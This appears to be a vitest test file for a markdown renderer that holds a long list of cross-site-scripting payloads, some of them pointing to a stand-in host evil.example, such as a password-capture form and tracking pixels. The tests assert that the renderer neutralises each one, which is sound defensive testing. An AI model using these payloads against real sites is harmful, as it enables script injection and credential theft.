import { expect, test } from 'vitest';
import { renderMarkdown } from './render-markdown';

test('the summary of a text is the plain text of its first paragraph', () => {
  const { html, summary } = renderMarkdown(
    "# Returns\n\nIf you don't like it,\nsend it back within **30 days** & [tell us](/policies/contact).\n\nMore.",
  );
  expect(summary).toBe("If you don't like it, send it back within 30 days & tell us.");
  expect(html).toContain('<strong>30 days</strong>');
  expect(html).toContain('<a href="/policies/contact">tell us</a>');
});

test('a text without a paragraph has no summary', () => {
  expect(renderMarkdown('# Terms').summary).toBe('');
});

const attacks = `<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<a href="javascript:alert(1)">x</a>
<div style="background:url(javascript:alert(1))">x</div>
<style>@import 'https://evil.example/x.css';</style>
<form action="https://evil.example"><input name=password></form>
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href="https://evil.example/">
<object data="https://evil.example"></object>
<details open ontoggle=alert(1)>
<!-- --><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?php alert(1) ?>
text <b onclick=alert(1)>bold</b> text
<script
src=https://evil.example>
</SCRIPT ><sCrIpT>alert(1)</ScRiPt>
&lt;script&gt;alert(1)&lt;/script&gt;
\\<script>alert(1)</script>
\`\`<script>alert(1)</script>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](  javascript:alert(1))
[x](java\tscript:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#106;avascript:alert(1))
[x](%6Aavascript:alert(1))
[x](\u0001javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](file:///etc/passwd)
[x](blob:https://shop/1)
[x](//evil.example)
[x](/\\evil.example)
[x](\\\\evil.example)
[x](/%2F/evil.example)
[x](/%5Cevil.example)
[x](</a/..//evil.example>)
[x](evil.example)
[x](ftp://evil.example)
[x](https://)
[x](javascript:alert(1) "title")
[x](https://ok.example "&quot; onmouseover=alert(1)")
[x](https://ok.example/"onmouseover=alert(1))
[x](https://ok.example/'onmouseover='alert(1))
[x](https://ok.example/><script>alert(1)</script>)
[x]( <javascript:alert(1)> )
[x][evil]
[<img src=x onerror=alert(1)>](/ok)
<javascript:alert(1)>
<data:text/html,x>
![x](javascript:alert(1))
![x](https://evil.example/pixel.gif)
![x](//evil.example/pixel.gif)
![x](data:image/svg+xml,<svg onload=alert(1)>)
![" onerror="alert(1)](/pictures/a.jpeg)
![x](/pictures/a.jpeg"onerror="alert(1))
![x](/pictures/a.jpeg "t&quot; onerror=alert(1)")
| a | <script>alert(1)</script> |
# <script>alert(1)</script>
- [ ] <script>alert(1)</script>
> <script>alert(1)</script>
***<script>alert(1)</script>***`
  .split('\n')
  .map((attack) => `${attack}\n\n[evil]: javascript:alert(1)`);

const allowed: Record<string, readonly string[]> = {
  A: ['href'],
  IMG: ['src', 'alt', 'loading'],
  TH: ['align'],
  TD: ['align'],
  OL: ['start'],
  CODE: ['class'],
};
const harmless =
  /^(A|IMG|P|H[2-6]|UL|OL|LI|STRONG|EM|DEL|CODE|PRE|BLOCKQUOTE|TABLE|THEAD|TBODY|TR|TH|TD|HR|BR)$/;

test.each(attacks)('%j is text, or a harmless element', (attack) => {
  document.body.innerHTML = renderMarkdown(attack).html;
  for (const element of document.body.querySelectorAll('*')) {
    expect(element.tagName).toMatch(harmless);
    for (const { name, value } of element.attributes) {
      expect(allowed[element.tagName], name).toContain(name);
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/ok\.example|\/(?![/\\]))/);
      if (name === 'src') expect(value).toMatch(/^\/(?![/\\])/);
    }
  }
});

test.each([
  ['[a](https://ok.example/?a=1&b=2)', '<a href="https://ok.example/?a=1&amp;b=2">a</a>'],
  ['[a](mailto:us@shop.example)', '<a href="mailto:us@shop.example">a</a>'],
  ['[a](tel:+1-555-0100)', '<a href="tel:+1-555-0100">a</a>'],
  ['[**a**](/all-drills)', '<a href="/all-drills"><strong>a</strong></a>'],
  ['[**a**](javascript:x)', '<p><strong>a</strong></p>'],
  ['![a "b"](/pictures/1.jpeg)', '<img src="/pictures/1.jpeg" alt="a &quot;b&quot;" loading="lazy">'],
  ['![a](https://elsewhere.example/1.jpeg)', '<p>a</p>'],
  ['a <b>c</b>', '<p>a &lt;b&gt;c&lt;/b&gt;</p>'],
  ['# One', '<h2>One</h2>'],
  ['### Three', '<h3>Three</h3>'],
  ['- [x] done', '☑ done'],
  ['- [ ] open', '☐ open'],
])('%j becomes %s', (text, html) => {
  expect(renderMarkdown(text).html).toContain(html);
});

test.each([
  ['>', 2_000],
  ['>', 2_001],
  ['- ', 30_000],
  ['1. ', 20_000],
  ['*a_', 20_000],
])('%j is rendered, or shown as it was typed, %d times', (part, times) => {
  expect(renderMarkdown(part.repeat(times)).html).not.toBe('');
});
